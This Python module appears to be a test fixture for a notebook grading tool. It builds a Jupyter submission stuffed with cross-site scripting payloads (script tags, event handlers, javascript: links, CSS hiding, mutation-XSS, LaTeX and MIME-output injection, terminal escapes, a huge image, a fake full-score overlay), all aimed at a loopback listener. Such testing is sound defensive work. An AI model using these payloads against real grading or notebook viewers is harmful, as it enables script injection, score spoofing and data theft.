"""A submission that attacks its readers: every way into a page that a notebook has, each
calling at one listener."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell

OWNED = "document.documentElement.dataset.owned='yes'"


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server on loopback: its address, and the requests that came."""
    asked: list[str] = []

    class Ear(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *arguments: object) -> None:
            """Quiet."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Ear) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


def markup(listener: str) -> str:
    """HTML that runs, loads, hides, leads away."""
    call = f"{OWNED};fetch('{listener}/fetch')"
    return f"""<script>{call}</script><script src="{listener}/script.js"></script>
<img src="x" onerror="{call}"><img src="{listener}/image.png"><img srcset="{listener}/srcset.png 2x">
<svg onload="{call}"><script>{call}</script><image href="{listener}/svg.png"/></svg>
<style>@import url({listener}/import.css); * {{ opacity: 0 !important; display: none !important }}
body {{ background: url({listener}/background.png) }}</style><link rel="stylesheet" href="{listener}/link.css">
<link rel="prefetch" href="{listener}/prefetch"><base href="{listener}/"><meta http-equiv="refresh" content="0;url={listener}/refresh">
<iframe src="{listener}/frame"></iframe><iframe srcdoc="<script>parent.{OWNED}</script>"></iframe><object data="{listener}/object"></object>
<embed src="{listener}/embed"><video src="{listener}/video" poster="{listener}/poster"></video><audio src="{listener}/audio" autoplay></audio>
<form action="{listener}/form" method="post"><input autofocus onfocus="{call}"><button>Go</button></form>
<details open ontoggle="{call}">x</details><a href="javascript:{call}">a link</a><a href="data:text/html,<script>{call}</script>">data</a>
<div style="position:fixed;inset:0;z-index:9999;background:white url({listener}/style.png)">100 of 100 points</div>
<math><mtext><table><mglyph><style><img src=x onerror="{call}"></style></mglyph></table></mtext></math>
"""


def prose(listener: str) -> str:
    """The same as an answer in markdown, and markdown's own links and pictures."""
    return (
        f"# An answer\n\n![a picture]({listener}/markdown.png) [a link](javascript:{OWNED})"
        f" <{listener}/autolink>\n\n{markup(listener)}\n\n$\\href{{javascript:{OWNED}}}{{x}}$"
        f" $$\\unicode{{<img src=x onerror={OWNED}>}}$$\n"
    )


def program(listener: str) -> str:
    """Code with attacks as its outputs."""
    return f"""# </pre></div>{markup(listener).replace(chr(10), " ")}
import base64, io, sys
from IPython.display import HTML, SVG, Image, Javascript, Latex, Markdown, display
attack = {markup(listener)!r}
display(HTML(attack), Markdown(attack), Latex(attack), Javascript({OWNED + f";fetch('{listener}/javascript')"!r}))
display({{"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'>" + attack + "</svg>", "text/plain": attack}}, raw=True)
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": attack, "version_major": 2}}, "text/plain": attack}}, raw=True)
display({{"image/png": '"><img src=x onerror="{OWNED}">', "text/html": attack}}, raw=True, metadata={{"image/png": {{"width": "1 onerror={OWNED}"}}}})
display({{"application/pdf": "x", "text/vnd.mermaid": attack, "application/geo+json": {{}}, "text/plain": "x"}}, raw=True)
try:
    from PIL import Image as Picture
    huge = io.BytesIO()
    Picture.new("1", (12_000, 12_000)).save(huge, "png")
    display({{"image/png": base64.b64encode(huge.getvalue()).decode()}}, raw=True)
except Exception as error:
    print("no huge picture:", error)
print("\\x1b]0;owned\\x07\\x1b[2J\\x1b[8mhidden\\x1b]8;;{listener}/terminal\\x1b\\\\ link" + attack)
print("\\u202e" + attack, file=sys.stderr)
raise type(attack[:40], (Exception,), {{}})(attack)
"""


def hostile(notebook: NotebookNode, listener: str) -> NotebookNode:
    """`notebook`, as released, with attacks in every answer and around them."""
    notebook = nbformat.from_dict(notebook)
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("solution") and cell.cell_type == "code":
            cell.source = program(listener)
        elif marks.get("solution"):
            cell.source = prose(listener)
        cell.metadata["tags"] = [f'"><script>{OWNED}</script>']
    notebook.cells.insert(2, new_markdown_cell(prose(listener), id="hostile-extra"))
    notebook.metadata["title"] = markup(listener)
    notebook.metadata["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "state": {},
            "version_major": 2,
            "version_minor": 0,
        }
    }
    notebook.metadata["kireji"] = {
        "assignment": "toy",
        "score": 100,
        "max_score": 100,
        "cells": [],
        "notices": [markup(listener)],
        "seconds": {},
    }
    return notebook
